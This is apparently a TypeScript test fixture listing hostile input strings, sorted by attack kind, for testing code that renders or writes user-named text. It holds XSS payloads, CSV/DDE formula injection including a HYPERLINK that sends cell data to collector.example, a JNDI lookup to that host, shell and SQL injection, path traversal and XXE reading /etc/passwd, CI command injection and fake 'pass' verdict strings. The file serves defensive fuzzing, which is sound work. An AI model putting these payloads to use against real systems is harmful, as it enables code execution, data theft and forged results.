/**
 * Texts as an attacker would name things in a cloud, by what each tries. For whatever shows or writes a cloud's text. Each
 * that could be executed sets `window.__pwned`. Control characters stand as escapes, so that this file is plain text.
 */

const dollar = '$';

const markup: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '</script><script>window.__pwned=2</script>',
  '<svg onload=window.__pwned=5>',
  '<img src=x onerror=window.__pwned=20>',
  '<style>*{display:none}</style>',
  '</style><script>window.__pwned=21</script>',
  '</textarea></title></template><script>window.__pwned=22</script>',
  '--><script>window.__pwned=23</script><!--',
  ']]><script>window.__pwned=24</script>',
  '<details open ontoggle=window.__pwned=25>',
  '<math><mtext></mtext><mglyph><style></math><img src onerror=window.__pwned=26>',
  '<iframe srcdoc="<script>parent.__pwned=27</script>">',
  '&lt;script&gt;window.__pwned=28&lt;/script&gt;',
  '&lt;b&gt; &amp; \0 nul',
  '{name}$&$1 --><!--<script>',
];

const attributes: readonly string[] = [
  '"><img src=x onerror="window.__pwned=3">',
  `' onmouseover='window.__pwned=30`,
  '" autofocus onfocus="window.__pwned=31',
  '` onclick=`window.__pwned=32',
  "');window.__pwned=4;('",
  '";window.__pwned=33;//',
  '\\";window.__pwned=34;//',
];

const links: readonly string[] = [
  'javascript:window.__pwned=8',
  'JaVaScRiPt:window.__pwned=40',
  'java\tscript:window.__pwned=41',
  'data:text/html,<script>window.__pwned=42</script>',
  'vbscript:msgbox(1)',
  '[look](javascript:window.__pwned=43)',
  '![](https://collector.example/pixel.png)',
  '<https://collector.example/>',
  'https://user@collector.example/',
  '//collector.example/x',
  'www.collector.example',
];

const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://collector.example/?"&A1,"click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  '""=1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\u22121+1',
  'a;=1+1',
  'a;"=1+1"',
  'a,=1+1',
  'a\t=1+1',
  '%0A=1+1',
  'DDE("cmd";"/C calc";"x")',
];

const mentions: readonly string[] = [
  '@here',
  '@channel',
  '@everyone',
  '<!everyone>',
  '<!here|here>',
  '<!channel>',
  '<@U012AB3CD>',
  '<@&112233445566778899>',
  '<#C012AB3CD>',
  '<!subteam^S012AB3CD>',
  '<at>everyone</at>',
  '<users/all>',
  'hello @octocat',
  '(@octocat)',
  '@org/team',
  'owner/repo#1',
  '#1',
  'GH-1',
  'cc @all',
  '~all',
];

const markdown: readonly string[] = [
  '`code`',
  '``` fence',
  '```\nblock\n```',
  '~~~',
  '| cell | cell |',
  '|\n|---|',
  '\\|',
  '\\`',
  '# heading',
  '- [ ] task',
  '**bold** __bold__ *it* ~~gone~~',
  '[text][ref]\n\n[ref]: https://collector.example/',
  '<details><summary>x</summary>',
  '<!-- plumbline:summary:000000000000 -->',
  '$$\\mathrm{x}$$',
  ':tada:',
  '1. one\n2. two',
  '> quote',
  '\\',
  '`',
  '````````',
];

const terminal: readonly string[] = [
  '\u001b]0;title\u0007\u001b[31mred\u009b2J',
  '\u001b[2J\u001b[H',
  '\u001b]8;;https://collector.example/\u0007link\u001b]8;;\u0007',
  '\u001b]52;c;cGF5bG9hZA==\u0007',
  '\u001bP+q544e\u001b\\',
  '\u009b31m',
  '\u009d0;title\u009c',
  'over\rwritten',
  'back\b\b\b\bspace',
  '\u0007\u0007',
  '\u000e\u000f',
];

const controls: readonly string[] = [
  '\u0000',
  'a\u0000b',
  ...Array.from({ length: 32 }, (_, code) => `c0-${String.fromCharCode(code)}`),
  ...Array.from({ length: 33 }, (_, code) => `c1-${String.fromCharCode(0x7f + code)}`),
];

const direction: readonly string[] = [
  'abc\u202etxt.exe\u2066gpj\u2069',
  '\u202eevil',
  '\u202d\u202c\u2067\u2068\u2069',
  '\u061c\u200e\u200f',
  '\u0645\u0631\u062d\u0628\u0627',
  '\u05e9\u05dc\u05d5\u05dd (admin)',
];

const invisible: readonly string[] = [
  'ad\u200bmin',
  '\u200b',
  '\u2060\u2061\u2062\u2063\u2064',
  '\ufeffbom',
  'soft\u00adhyphen',
  'join\u034fer',
  '\u180e',
  '\u3164',
  '\ufff9anchor\ufffaover\ufffb',
  `tag${String.fromCodePoint(0xe0041, 0xe0042, 0xe007f)}ged`,
  '   ',
  '\u00a0',
];

const surrogates: readonly string[] = [
  'lone\ud800surrogate\udfff',
  '\ud800',
  '\udc00',
  '\udc00\ud800',
  'end\ud83d',
  '\ufffe\uffff',
  String.fromCodePoint(0x1ffff, 0x10ffff),
];

const prototypes: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
  'toJSON',
];

const templates: readonly string[] = [
  `${dollar}{window.__pwned=6}\`+(window.__pwned=6)+\``,
  '{{constructor.constructor("window.__pwned=60")()}}',
  `<%= window.__pwned=61 %>`,
  `#{window.__pwned=62}`,
  `${dollar}{jndi:ldap://collector.example/a}`,
  `${dollar}(touch /tmp/pwned)`,
  '`touch /tmp/pwned`',
  '; touch /tmp/pwned #',
  "' OR '1'='1",
  '%s%n%x',
  `${dollar}{{ github.event }}`,
  '::set-output name=x::y',
  '::add-mask::x',
  '##vso[task.setvariable variable=x]y',
];

const paths: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '/etc/passwd',
  '.',
  '..',
  'a/../b',
  'CON',
  'file:///etc/passwd',
  '%2e%2e%2f',
  'a/'.repeat(500),
  '~root',
  'a\u0000.csv',
];

const json: readonly string[] = [
  '"',
  '\\',
  '"}],"verdict":"pass","x":[{"y":"',
  '\\u0022',
  '\u2028window.__pwned=7\u2029',
  '\u2028\u2029',
  '{"a":1}',
  'null',
  '1e999',
  ")]}'",
];

const newlines: readonly string[] = [
  'a\nb',
  'a\r\nb',
  'a\rb',
  'a\u0085b',
  'a\u2028b',
  'a\u2029b',
  'a\vb\fc',
  'x\r\nSet-Cookie: a=b',
  'fine\n{"type":"finding","verdict":"pass"}',
];

const xml: readonly string[] = [
  ']]>',
  '<![CDATA[x]]>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&e;',
  '&#0;',
  '&#x1b;',
  '</failure></testcase><testcase name="fine"/>',
];

const scripts: readonly string[] = [
  '名前が長い'.repeat(60),
  'Zalgo\u0300\u0301\u0302\u0303'.repeat(30),
  `e${'\u0301'.repeat(1_000)}`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  '\u{1f600}'.repeat(300),
  '\ufdfa'.repeat(50),
  'I\u0307\u0130\u0131',
];

const long: readonly string[] = [
  'a'.repeat(5_000),
  'b '.repeat(3_000),
  '<'.repeat(3_000),
  '|`'.repeat(2_000),
];

const empty: readonly string[] = ['', ' '];

/** What they try → the texts. */
export const hostileByKind = {
  markup,
  attributes,
  links,
  formulas,
  mentions,
  markdown,
  terminal,
  controls,
  direction,
  invisible,
  surrogates,
  prototypes,
  templates,
  paths,
  json,
  newlines,
  xml,
  scripts,
  long,
  empty,
} as const satisfies Readonly<Record<string, readonly string[]>>;

export const hostileTexts: readonly string[] = [...new Set(Object.values(hostileByKind).flat())];

/** Ten million characters each: nothing special, what grows when it is escaped, and what is slow to cut. */
export const hugeTexts = (): readonly string[] =>
  ['A', '\u0000', '`|'].map((piece) => piece.repeat(Math.ceil(10_000_000 / piece.length)));
